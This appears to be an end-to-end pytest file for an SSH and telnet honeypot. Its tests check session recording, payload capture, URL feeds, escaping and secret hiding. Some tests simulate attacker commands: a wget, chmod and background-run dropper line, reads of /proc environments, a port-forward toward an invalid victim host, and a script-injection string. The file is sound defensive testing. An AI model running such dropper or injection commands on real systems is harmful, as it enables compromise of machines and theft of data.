from __future__ import annotations

import hashlib
import io
import re
import subprocess
from pathlib import Path

import httpx2
import pytest
import pyzipper
from tests.support.running import SECRETS, Dropper, RunningTrap, eventually

pytestmark = pytest.mark.e2e


def test_a_downloaded_payload_becomes_an_artifact_a_url_and_a_feed_entry(
    trap: RunningTrap, dropper: Dropper
) -> None:
    url = f"{dropper.base}/bins/x86"
    done = trap.ssh(f"cd /tmp; wget -q {url} -O .x && chmod +x .x && (./.x >/dev/null 2>&1 &); sha256sum .x")
    digest = hashlib.sha256(dropper.payload).hexdigest()
    assert digest in done.stdout.decode(), done
    path, headers = dropper.requests[0]
    assert path == "/bins/x86" and headers["User-Agent"].startswith("Wget/")

    eventually(lambda: url in trap.get("/feed.txt").splitlines(), "the URL is in feed.txt")
    eventually(
        lambda: any((row["url"], row["verdict"]) == (url, "malicious-observed") for row in trap.json("urls")),
        "the URL is judged by its payload",
    )
    assert any(row["artifact"]["sha256"] == digest for row in trap.json("artifacts"))
    assert url in trap.get("/feed.csv") and url in trap.get("/feed.json")
    assert f"{dropper.base.replace('http', 'hxxp', 1).replace('.', '[.]')}/bins/x86" in trap.get("/urls")
    assert [path for path, _ in dropper.requests].count("/bins/x86") == 1


def test_output_errors_and_exit_status_come_apart(trap: RunningTrap) -> None:
    done = trap.ssh("echo out; echo err >&2; exit 7")
    assert (done.stdout, done.stderr, done.returncode) == (b"out\n", b"err\n", 7)


def test_standard_input_reaches_the_command(trap: RunningTrap) -> None:
    body = b"first\nsecond \xff\x00 line\n" * 5000
    done = trap.ssh("cat > /tmp/in; cat /tmp/in", stdin=body)
    assert done.stdout == body


def test_scp_and_sftp_uploads_become_artifacts(
    trap: RunningTrap, tmp_path_factory: pytest.TempPathFactory
) -> None:
    folder = tmp_path_factory.mktemp("upload")
    first, second = folder / "payload.bin", folder / "other.bin"
    first.write_bytes(b"harmless \x00\x01 one" * 3000)
    second.write_bytes(b"harmless two" * 999)
    port = str(trap.ssh_port)
    for protocol in ("-O", "-s"):
        done = subprocess.run(
            [
                "scp",
                protocol,
                *trap.ssh_options(),
                "-P",
                port,
                str(first),
                "root@127.0.0.1:/tmp/up" + protocol,
            ],
            env=trap.env,
            capture_output=True,
            timeout=60,
        )
        assert done.returncode == 0, done
    done = subprocess.run(
        ["sftp", *trap.ssh_options(), "-P", port, "-b", "-", "root@127.0.0.1"],
        input=f"put {second} /var/tmp/two\nls -l /var/tmp\nget /var/tmp/two {folder}/back\nbye\n".encode(),
        env=trap.env,
        capture_output=True,
        timeout=60,
    )
    assert done.returncode == 0 and b"two" in done.stdout, done
    assert (folder / "back").read_bytes() == second.read_bytes()
    assert (
        trap.ssh("cat /tmp/up-O | md5sum; cat /tmp/up-s | md5sum").stdout.count(
            hashlib.md5(first.read_bytes()).hexdigest().encode()
        )
        == 2
    )
    wanted = {hashlib.sha256(path.read_bytes()).hexdigest() for path in (first, second)}
    eventually(
        lambda: wanted <= {row["artifact"]["sha256"] for row in trap.json("artifacts")},
        "both uploads are artifacts",
    )


def test_a_terminal_session_is_journalled_and_replayed(trap: RunningTrap) -> None:
    script = b"echo marker-$((6*7))\nuname -s\nexit\n"
    done = subprocess.run(
        ["ssh", "-tt", *trap.ssh_options(), "-p", str(trap.ssh_port), "root@127.0.0.1"],
        input=script,
        env=trap.env,
        capture_output=True,
        timeout=60,
    )
    assert b"marker-42" in done.stdout and b"Linux" in done.stdout, done

    def recorded() -> str | None:
        for row in trap.json("sessions"):
            if row["commands"] >= 3 and row["ended"]:
                text = trap.cli("replay", row["id"], "--plain")
                if "marker-42" in text:
                    return str(row["id"])
        return None

    session = eventually(recorded, "the session can be replayed")
    # However wide the console is: a cell's lines follow one another.
    shown = "".join(trap.cli("show", session).split())
    assert "text=echomarker-$((6*7))" in shown and "text=uname-s" in shown
    assert "marker-" in trap.get(f"/sessions/{session}")


def test_a_telnet_client_gets_a_shell_and_its_url_is_kept(trap: RunningTrap, dropper: Dropper) -> None:
    url = f"{dropper.base}/telnet.sh"
    from tests.support.telnet import TelnetClient

    with TelnetClient("127.0.0.1", trap.telnet_port) as client:
        client.login("root", "letmein-7")
        output = client.run(f"wget {url} -O /tmp/t; echo done-$?")
        assert "done-0" in output, output
    eventually(lambda: any(row["url"] == url for row in trap.json("urls")), "the URL is listed")


def test_a_port_forward_is_recorded_and_leads_nowhere(trap: RunningTrap) -> None:
    done = subprocess.run(
        ["ssh", *trap.ssh_options(), "-p", str(trap.ssh_port), "-W", "victim.invalid:25", "root@127.0.0.1"],
        input=b"EHLO x\r\n",
        env=trap.env,
        capture_output=True,
        timeout=60,
    )
    assert b"220" not in done.stdout

    def seen() -> bool:
        return any(
            event["kind"] == "forward.asked" and event["host"] == "victim.invalid" and event["port"] == 25
            for row in trap.json("sessions")
            for event in trap.json("show", row["id"])["events"]
        )

    eventually(seen, "the forward is in its session")


def test_no_secret_of_the_operator_comes_out_anywhere(trap: RunningTrap) -> None:
    """Not in what attackers, pages, commands and logs show, nor in files, titles and environments of processes."""
    shown = [
        trap.ssh("env; set; cat /proc/self/environ /proc/1/environ /proc/*/cmdline").stdout.decode("latin-1")
    ]
    shown += [trap.get(path) for path in ("/", "/sessions", "/urls", "/operations", "/feed.json")]
    shown += [trap.cli("status", "--json"), trap.log_text()]
    examined = trap.process_of("doctor")
    shown += [examined.stdout.decode(), examined.stderr.decode()]
    for name, state in trap.status()["processes"].items():
        folder = Path("/proc", str(state["pid"]))
        environment = (folder / "environ").read_text()
        assert "URLTRAP_" not in environment, name
        if name in ("trap-0", "fetcher"):
            shown.append(environment)
        shown.append((folder / "cmdline").read_text())
    shown += [path.read_bytes().decode("latin-1") for path in trap.folder.rglob("*") if path.is_file()]
    assert [text[:200] for text in shown for secret in SECRETS if secret in text] == []


def test_pages_answer_and_show_attackers_text_escaped(trap: RunningTrap) -> None:
    trap.ssh("echo '<script>alert(1)</script>'; wget http://198.51.100.7/<b>x")
    eventually(lambda: any("<script>" in str(row) for row in trap.json("commands")), "listed")
    for path in ("/", "/sessions", "/urls"):
        page = trap.get(path)
        assert "<script>alert(1)" not in page
        assert not re.search(r"<a [^>]*href=\"http://198\.51", page)


def test_the_synthetic_attacker_comes_through_and_is_in_no_list(trap: RunningTrap) -> None:
    state = eventually(
        lambda: (now := trap.json("status")["canary"])["visit"] and now["stored_at"] and now,
        "it got in, and its session is in the store",
        60,
    )
    assert state["visit"]["problem"] == "" and state["visit"]["well_at"]
    assert not any(row["id"].startswith("CANARY") for row in trap.json("sessions"))
    assert '"canary_stored_age_seconds"' in trap.get("/healthz")


def test_an_analyst_logs_in_decides_about_a_url_and_takes_its_payload_home(
    trap: RunningTrap, dropper: Dropper
) -> None:
    """The last one: from its user on, everybody has to log in."""
    url = f"{dropper.base}/bins/decided"
    trap.ssh(f"cd /tmp; wget -q {url} -O .z && chmod +x .z && (./.z >/dev/null 2>&1 &)")
    eventually(lambda: url in trap.get("/feed.txt").splitlines(), "the URL is in feed.txt")
    password = "correct horse battery staple"
    added = trap.process_of("user", "add", "ada", "--role", "admin", stdin=password.encode() + b"\n")
    assert added.returncode == 0, added
    trap.cli("user", "allow", "ada", "payloads")

    def row() -> dict[str, str]:
        return next(row for row in trap.json("urls") if row["url"] == url)

    with httpx2.Client(base_url=trap.site, timeout=30) as browser:
        assert browser.get("/feed.txt").status_code == 401

        def send(page: str, path: str, **fields: str) -> httpx2.Response:
            token = re.search(r'name="token" value="([0-9a-f]+)"', browser.get(page).text)
            assert token is not None
            return browser.post(path, data={"token": token[1], **fields})

        assert send("/login", "/login", name="ada", password=password).status_code == 303
        story = f"/urls/{row()['id']}"
        assert send(story, f"{story}/decision", decision="benign", note="our own").status_code == 303
        eventually(lambda: row()["verdict"] == "benign-context", "the decision counts")
        eventually(lambda: url not in browser.get("/feed.txt").text, "it goes out of the feed")
        assert "our own" in browser.get(story).text
        sha256 = hashlib.sha256(dropper.payload).hexdigest()
        parcel = send(f"/artifacts/{sha256}", f"/artifacts/{sha256}/payload")
        assert parcel.status_code == 200 and dropper.payload not in parcel.content
        with pyzipper.AESZipFile(io.BytesIO(parcel.content)) as archive:
            archive.setpassword(b"infected")
            assert archive.read(sha256) == dropper.payload
        log = browser.get("/audit").text
        assert all(action in log for action in ("decision.benign", "payload.downloaded", "right.given"))
    moved = {(change["before"], change["now"]) for change in trap.json("judge", "--replay")}
    assert all(before == now for before, now in moved) and row()["verdict"] == "benign-context"
